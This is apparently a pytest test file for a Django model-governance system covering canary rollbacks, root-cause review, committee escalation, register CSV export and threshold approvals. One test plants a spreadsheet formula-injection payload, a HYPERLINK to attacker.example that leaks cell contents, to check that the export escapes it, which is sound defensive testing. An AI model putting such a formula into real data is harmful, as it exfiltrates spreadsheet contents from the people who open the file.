from __future__ import annotations

from datetime import timedelta

import pytest
from django.utils import timezone

from canaryhub.errors import Conflict, PermissionRefused, ValidationFailed
from governance.access.permissions import Role
from governance.evidence.selectors import register_csv, register_entries
from governance.incidents import selectors as incident_selectors
from governance.incidents.models import CommitteeEscalation, Incident, RootCauseReport
from governance.rootcause import services as rootcause
from governance.thresholds.services import threshold_change_request, threshold_change_review
from monitoring.models import NotificationEvent
from releases.canaries import services as lifecycle
from releases.register.models import ModelVersion
from tests.factories import PASSWORD, make_evaluation
from tests.governance.helpers import DAY, make_model, sign

CAUSE = dict(cause="Tokenizer change doubled latency on long prompts.", fix="Pin the tokenizer and re-run the load test.",
             contributing_factors="No long-prompt case in the shadow set.", version_change_ref="https://git/x/pull/7")


@pytest.fixture
def people(role_user):
    return {
        "owner": role_user(Role.MODEL_OWNER, username="owner"),
        "platform": role_user(Role.PLATFORM, username="platform"),
        "oncall": role_user(Role.ON_CALL, username="oncall"),
        "mrm": role_user(Role.MRM, username="mrm"),
        "mrm2": role_user(Role.MRM, username="mrm2"),
        "gov": role_user(Role.AI_GOVERNANCE, username="gov"),
    }


def rolled_back(people):
    canary = lifecycle.canary_initiate(actor=people["owner"], model_name="scorer", version="1.1.0")
    evaluation = make_evaluation(canary, status="red")
    lifecycle.canary_rollback(actor=None, canary_id=canary.pk, reason="latency breach", automatic=True,
                              evaluation_id=evaluation.pk)
    return canary, Incident.objects.get(canary=canary)


def clear(people, incident):
    report = rootcause.root_cause_file(actor=people["oncall"], incident_id=incident.pk, **CAUSE)
    rootcause.root_cause_review(actor=people["mrm"], report_id=report.pk, accept=True)
    rootcause.reinitiation_approve(actor=people["owner"], incident_id=incident.pk, password=PASSWORD,
                                   statement="Root cause fixed and accepted; start again.")


def test_rollback_blocks_recanary_until_root_cause_accepted_and_reinitiation_signed(people):
    make_model(people["platform"])
    _, incident = rolled_back(people)
    assert incident.evaluation is not None and incident.severity == "P2"
    again = lambda: lifecycle.canary_initiate(actor=people["owner"], model_name="scorer", version="1.1.0")  # noqa: E731
    with pytest.raises(Conflict, match="root cause is accepted"):
        again()
    report = rootcause.root_cause_file(actor=people["oncall"], incident_id=incident.pk, **CAUSE)
    with pytest.raises(Conflict):
        again()
    with pytest.raises(Conflict, match="not accepted"):
        rootcause.reinitiation_approve(actor=people["owner"], incident_id=incident.pk, password=PASSWORD,
                                       statement="Please let us start again now.")
    rootcause.root_cause_review(actor=people["mrm"], report_id=report.pk, accept=True)
    with pytest.raises(Conflict):
        again()
    with pytest.raises(PermissionRefused, match="re-authentication"):
        rootcause.reinitiation_approve(actor=people["owner"], incident_id=incident.pk, password="wrong",
                                       statement="Please let us start again now.")
    rootcause.reinitiation_approve(actor=people["owner"], incident_id=incident.pk, password=PASSWORD,
                                   statement="Root cause fixed and accepted; start again.")
    canary = again()
    assert canary.state == "running"
    assert canary.reinitiation.incident_id == incident.pk


def test_report_is_flagged_overdue_and_late(people):
    make_model(people["platform"])
    _, incident = rolled_back(people)
    later = incident.root_cause_due_at + timedelta(minutes=1)
    assert incident_selectors.incident_is_overdue(incident, now=later)
    report = rootcause.root_cause_file(actor=people["oncall"], incident_id=incident.pk, now=later, **CAUSE)
    assert report.filed_late


def test_author_cannot_accept_and_return_needs_a_note(people):
    make_model(people["platform"])
    _, incident = rolled_back(people)
    report = rootcause.root_cause_file(actor=people["oncall"], incident_id=incident.pk, **CAUSE)
    with pytest.raises(ValidationFailed):
        rootcause.root_cause_review(actor=people["mrm"], report_id=report.pk, accept=False)
    with pytest.raises(PermissionRefused):
        rootcause.root_cause_review(actor=people["oncall"], report_id=report.pk, accept=True)
    rootcause.root_cause_review(actor=people["mrm"], report_id=report.pk, accept=False, note="Which prompts? Add data.")
    assert RootCauseReport.objects.get().status == "returned"
    assert Incident.objects.get().status == "open"


def test_three_consecutive_rollbacks_escalate_to_the_committee(people):
    make_model(people["platform"])
    for n in range(3):
        _, incident = rolled_back(people)
        if n < 2:
            clear(people, incident)
    escalation = CommitteeEscalation.objects.get()
    assert len(escalation.canary_ids) == 3
    assert ModelVersion.objects.get(version="1.1.0").committee_escalated_at is not None
    assert NotificationEvent.objects.filter(kind="committee.escalation").exists()


def test_mrm_register_has_passes_and_failures_and_exports_csv(people):
    make_model(people["platform"])
    canary = lifecycle.canary_initiate(actor=people["owner"], model_name="scorer", version="1.1.0",
                                       now=timezone.now() - 2 * DAY)
    evaluation = make_evaluation(canary, window_end=timezone.now() - timedelta(seconds=30))
    sign(people["owner"], canary, "owner", now=timezone.now(), evaluation=evaluation)
    lifecycle.canary_rollback(actor=people["owner"], canary_id=canary.pk, reason="quality drop")
    entries = register_entries()
    assert {e.outcome for e in entries} == {"passed", "failed"}
    assert [e.outcome for e in register_entries(outcome="failed")] == ["failed"]
    assert register_entries(model="other") == []
    csv_text = "".join(register_csv(entries))
    assert csv_text.splitlines()[0].startswith("at,model,version") and "root cause not yet filed" in csv_text


def test_a_root_cause_written_as_a_formula_is_exported_as_text(people, client):
    make_model(people["platform"])
    _, incident = rolled_back(people)
    formula = '=HYPERLINK("https://attacker.example/?"&A1,"details")'
    rootcause.root_cause_file(actor=people["oncall"], incident_id=incident.pk,
                              **{**CAUSE, "cause": formula})
    client.force_login(people["mrm"])
    body = b"".join(client.get("/governance/register.csv").streaming_content).decode()
    cells = [row.split(",", 8)[-1] for row in body.splitlines()[1:]]
    assert any("'=HYPERLINK" in cell for cell in cells), body
    assert not any(cell.lstrip('"').startswith(("=", "+", "-", "@")) for cell in cells), body


def test_threshold_change_needs_governance_and_mrm_and_applies_at_the_next_stage(people):
    make_model(people["platform"])
    canary = lifecycle.canary_initiate(actor=people["owner"], model_name="scorer", version="1.1.0",
                                       now=timezone.now() - 2 * DAY)
    proposed = {"promote": {"latency_p99_ratio": 1.1}}
    with pytest.raises(ValidationFailed):
        threshold_change_request(actor=people["owner"], canary_id=canary.pk, proposed={"promote": {"latency_p99_ratio": 9}},
                                 reason="Loosen it please, it is slow.")
    change = threshold_change_request(actor=people["owner"], canary_id=canary.pk, proposed=proposed,
                                      reason="Latency budget tightened by the consumer team.")
    with pytest.raises(PermissionRefused):
        threshold_change_review(actor=people["owner"], request_id=change.pk, approve=True)
    threshold_change_review(actor=people["gov"], request_id=change.pk, approve=True)
    change = threshold_change_review(actor=people["mrm"], request_id=change.pk, approve=True)
    assert change.status == "approved"
    canary.refresh_from_db()
    assert canary.thresholds["promote"]["latency_p99_ratio"] == 1.2  # not in the current stage
    evaluation = make_evaluation(canary, window_end=timezone.now() - timedelta(seconds=30))
    sign(people["owner"], canary, "owner", now=timezone.now(), evaluation=evaluation)
    canary.refresh_from_db()
    change.refresh_from_db()
    assert canary.thresholds["promote"]["latency_p99_ratio"] == 1.1
    assert (change.status, change.applied_stage_index) == ("applied", 1)
